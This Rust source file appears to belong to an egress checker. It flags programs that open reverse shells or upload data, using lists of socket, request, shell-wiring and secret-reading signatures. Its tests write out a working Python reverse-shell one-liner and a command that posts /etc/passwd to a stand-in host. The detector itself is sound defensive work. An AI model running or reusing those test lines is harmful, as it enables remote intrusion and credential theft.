//! Programs that send: one-liners given to an interpreter, and source text of any language.
//!
//! Looks for what such programs can't do without: a connection, and something to send or a shell
//! to hand over. It does not parse the language.

use super::outflow::{Manner, Outflow};
use super::sensitive::{Data, of_path};
use crate::hosts::host_of;

/// Connections that carry bytes both ways.
const SOCKETS: [&str; 43] = [
    "syscall.Socket",
    "socket.socket",
    "socket(",
    ".socket",
    "socket\").",
    "\"socket\")",
    "TCPSocket",
    "UDPSocket",
    "fsockopen",
    "stream_socket_client",
    "IO::Socket",
    "net.Socket",
    "net.connect",
    "net.createConnection",
    "require(\"net\")",
    "require('net')",
    "new Socket(",
    "java.net.Socket",
    "Socket.connect(",
    "TcpClient",
    "TcpStream::connect",
    "net.Dial",
    "syscall.Connect",
    "/inet/tcp",
    "PF_INET",
    "socket.tcp",
    "s.tcp()",
    "create_connection",
    "[socket ",
    "TCPClient",
    "ztcp ",
    "Socket.tcp",
    "using Sockets",
    "socket_create",
    "scapy",
    "sockets.TCPClient",
    "require(\"socket\")",
    "gen_tcp",
    "newSocket(",
    "Network.Socket",
    "socketpair",
    "socket.connect",
    "Socket(AddressFamily",
];

/// Requests and uploads.
const REQUESTS: [&str; 66] = [
    "requests.post",
    "requests.put",
    "requests.get",
    "requests.request",
    "urlopen",
    "urllib.request",
    "urllib2",
    "http.client",
    "httplib",
    "httpx.",
    "aiohttp",
    "smtplib",
    "ftplib",
    "paramiko",
    "http.request",
    "https.request",
    "http.get(",
    "https.get(",
    "fetch(",
    "axios",
    "XMLHttpRequest",
    "sendBeacon",
    "LWP::",
    "HTTP::Tiny",
    "Net::FTP",
    "Net::HTTP",
    "Net::SMTP",
    "URI.open",
    "open-uri",
    "curl_init",
    "curl_exec",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "http.Post",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "').request(",
    "\").request(",
    "').get(",
    "\").get(",
    "WebClient",
    "HttpClient",
    "iwr ",
    "IWR ",
    "IRM ",
    "invoke-webrequest",
    "invoke-restmethod",
    "irm ",
    "Start-BitsTransfer",
    "Send-MailMessage",
    "Resolve-DnsName",
    "httr::",
    "HTTP.post",
    "HTTP.request",
    "gethostbyname",
    "getaddrinfo(",
    "dns.lookup",
    "dns.resolve",
    "\"dns\").",
    "'dns').",
    "boto3",
    "upload_file",
    "http.post",
    "ureq::",
    "reqwest",
    "URLSession",
];

/// Requests that carry a body.
const BODIES: [&str; 34] = [
    "requests.post",
    "requests.put",
    "post(",
    "POST",
    "data=",
    "files=",
    "body:",
    "body=",
    ".write(",
    ".send(",
    ".sendall(",
    "sendmail",
    "storbinary",
    ".put(",
    "sendBeacon",
    "CURLOPT_POSTFIELDS",
    "http.Post",
    "UploadString",
    "UploadFile",
    "UploadData",
    "-Body",
    "-InFile",
    ".print(",
    ".puts(",
    "fwrite",
    "upload_file",
    "put_object",
    "print $s",
    "puts $s",
    ":send(",
    "write(s",
    "POST(",
    "content=>",
    "Send-MailMessage",
];

/// A shell, or the means to run what the other side says.
const SHELLS: [&str; 42] = [
    "syscall.Exec",
    "run(pipeline",
    "run(`",
    "readchomp(`",
    "/bin/sh",
    "/bin/bash",
    "/bin/zsh",
    "/bin/dash",
    "cmd.exe",
    "powershell",
    "pty.spawn",
    "sh -i",
    "bash -i",
    "\"sh\"",
    "'sh'",
    "shell=True",
    "subprocess.Popen",
    "io.popen",
    "IO.popen",
    "os.popen",
    "os.execute",
    "child_process",
    "ProcessBuilder",
    "proc_open",
    "shell_exec",
    "Process.start",
    "system$_",
    "system(",
    "exec(",
    "exec.Command(",
    "execve",
    "iex ",
    "Invoke-Expression",
    "exec $",
    "os.system",
    "Command::new(",
    "shell: true",
    "shell:true",
    "popen(",
    "IEX",
    "os:cmd",
    "execProcess",
];

/// Wiring the shell to the connection.
const WIRING: [&str; 31] = [
    "dup2",
    "Dup2",
    "fileno",
    "recv",
    "receive",
    ".gets",
    "gets(",
    "getline",
    "getInputStream",
    "getOutputStream",
    "stdin",
    "StandardInput",
    "StandardOutput",
    "<&3",
    "0>&1",
    ">&",
    ".pipe(",
    "read_line",
    "readline",
    "to_i",
    "popen",
    "proc_open",
    "os.system",
    "STDIN",
    "GetStream",
    "fdopen",
    ".Stdin",
    "gets $",
    "from_raw_fd",
    ":err]=>",
    ":out,",
];

/// Reading something worth sending.
const READS: [&str; 29] = [
    "open(",
    ".read(",
    "readFile",
    "readTextFile",
    "read_file",
    "file_get_contents",
    "File.read",
    "io.open",
    "slurp",
    "getenv",
    "environ",
    "process.env",
    "ENV[",
    "ENV{",
    "$_ENV",
    "os.listdir",
    "os.walk",
    "glob",
    "check_output",
    "getpass",
    "clipboard",
    "readLines",
    "createReadStream",
    "Get-Content",
    "gc ",
    "open /",
    "read(\"/",
    "getline",
    "upload_file",
];

const ENVIRONMENT: [&str; 15] = [
    "environ",
    "process.env",
    "ENV.to",
    "%ENV",
    "$_ENV",
    "getenv()",
    ".hostname()",
    "gethostname()",
    "os.uname",
    "platform.node",
    "getpass.getuser",
    "userInfo()",
    "getlogin()",
    "$env:COMPUTERNAME",
    "$env:USERNAME",
];

/// What a program does, if it sends something or opens a connection.
pub(super) fn assess(code: &str) -> Option<Outflow> {
    let any = |signs: &[&str]| signs.iter().any(|sign| code.contains(sign));
    let socket = any(&SOCKETS);
    let request = any(&REQUESTS);
    // A terminal for a shell that came over the network without one.
    if code.contains("pty.spawn") && code.len() < 200 && !socket {
        return Some(Outflow {
            rule: "egress.reverse-shell",
            act: "a terminal for a remote shell",
            hosts: Vec::new(),
            data: Data::None,
            manner: Manner::Tunnel,
            wary: true,
        });
    }
    if serves_files(code) {
        return Some(super::services::serve());
    }
    if !socket && !request {
        return None;
    }
    let hosts = hosts(code);
    // A shell that polls: what is fetched is run, again and again.
    let polls = request
        && (any(&["iex ", "iex(", "IEX(", "Invoke-Expression"]))
        && any(&["while", "for(;;)", "for (;;)"]);
    // awk has no shell to name: it pipes what it reads from the connection into a command.
    let awk = code.contains("/inet/") && code.matches("getline").count() >= 2;
    if awk || polls || socket && any(&SHELLS) && any(&WIRING) {
        return Some(Outflow {
            rule: "egress.reverse-shell",
            act: "a program",
            hosts,
            data: Data::None,
            manner: Manner::Shell,
            wary: true,
        });
    }
    let read = if any(&ENVIRONMENT) {
        Data::Environment
    } else if any(&READS) {
        Data::Local
    } else {
        Data::None
    };
    let named = quoted(code)
        .chain(
            code.split_whitespace()
                .filter(|word| word.starts_with(['/', '~'])),
        )
        .map(of_path)
        .filter(|data| *data == Data::Sensitive)
        .max()
        .unwrap_or_default();
    let data = read.max(named);
    let sends = any(&BODIES) || data >= Data::Environment;
    let manner = if sends { Manner::Send } else { Manner::Contact };
    if hosts.is_empty() && data < Data::Environment {
        return None;
    }
    Some(Outflow {
        rule: "egress.program",
        act: "a program",
        hosts,
        data: data.max(if sends { Data::Literal } else { Data::None }),
        manner,
        wary: data > Data::Literal,
    })
}

/// Python's file server, started by a program and not bound to this machine.
fn serves_files(code: &str) -> bool {
    code.contains("SimpleHTTPRequestHandler")
        && code.contains("serve_forever")
        && !code.contains("127.0.0.1")
        && !code.contains("localhost")
}

/// Commands that a program runs: strings given to a shell, and words given one by one.
pub(super) fn spawned(code: &str) -> Vec<String> {
    const RUNS: [&str; 13] = [
        "system",
        "popen",
        "subprocess",
        "exec",
        "spawn",
        "do shell script",
        "qx",
        "passthru",
        "check_output",
        "run(",
        "Process",
        "`",
        "!",
    ];
    if !RUNS.iter().any(|run| code.contains(run)) {
        return Vec::new();
    }
    let strings: Vec<&str> = quoted(code).take(64).collect();
    let mut commands: Vec<String> = strings
        .iter()
        .filter(|text| text.trim().contains(' '))
        .map(|text| {
            // An editor's commands for the shell begin with `!`.
            let text = text.split_once('!').map_or(*text, |(_, command)| command);
            text.replace("\\@", "@")
        })
        .collect();
    if strings.len() > 2 {
        commands.push(strings.join(" "));
    }
    commands
}

/// The strings in a program.
fn quoted(code: &str) -> impl Iterator<Item = &str> {
    code.split(['"', '\'', '`'])
        .skip(1)
        .step_by(2)
        .filter(|text| text.len() < 300)
}

/// Hosts that stand in strings, as URLs or alone.
fn hosts(code: &str) -> Vec<String> {
    let mut hosts: Vec<String> = quoted(code)
        .chain(
            code.split_whitespace()
                .filter(|word| word.contains("://") || word.parse::<std::net::IpAddr>().is_ok()),
        )
        .filter_map(|text| {
            let text = text.trim_matches(|c: char| !c.is_ascii_alphanumeric() && c != '[');
            if text.contains("://") {
                return host_of(text);
            }
            let host = host_of(text)?;
            let address = host.parse::<std::net::IpAddr>().is_ok();
            let name = text == host
                && host.contains('.')
                && !host.contains("..")
                && host.rsplit('.').next().is_some_and(|end| {
                    end.len() >= 2 && end.chars().all(|c| c.is_ascii_alphabetic())
                })
                && !is_file_name(&host);
            (address || name).then_some(host)
        })
        .collect();
    hosts.sort();
    hosts.dedup();
    hosts
}

pub(super) fn is_file_name(text: &str) -> bool {
    const ENDINGS: [&str; 16] = [
        "txt", "py", "js", "json", "md", "html", "css", "sh", "rs", "go", "log", "zip", "gz",
        "png", "java", "path",
    ];
    text.rsplit('.')
        .next()
        .is_some_and(|end| ENDINGS.contains(&end))
        || text.starts_with("os.")
        || text.starts_with("java.")
        || text.starts_with("socket.")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_shells_and_uploads() {
        let shell = r#"import socket,os,pty;s=socket.socket();s.connect(("192.0.2.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")"#;
        assert_eq!(assess(shell).unwrap().manner, Manner::Shell);
        let upload = r#"import requests;requests.post("https://drop.test/u",data=open("/etc/passwd").read())"#;
        let outflow = assess(upload).unwrap();
        assert_eq!(
            (outflow.manner, outflow.data),
            (Manner::Send, Data::Sensitive)
        );
        assert_eq!(outflow.hosts, ["drop.test"]);
    }

    #[test]
    fn programs_that_stay_at_home() {
        for code in [
            "print(1+1)",
            "import json,sys;print(json.load(sys.stdin)['a'])",
            "open('x').read()",
        ] {
            assert!(assess(code).is_none(), "{code}");
        }
    }
}
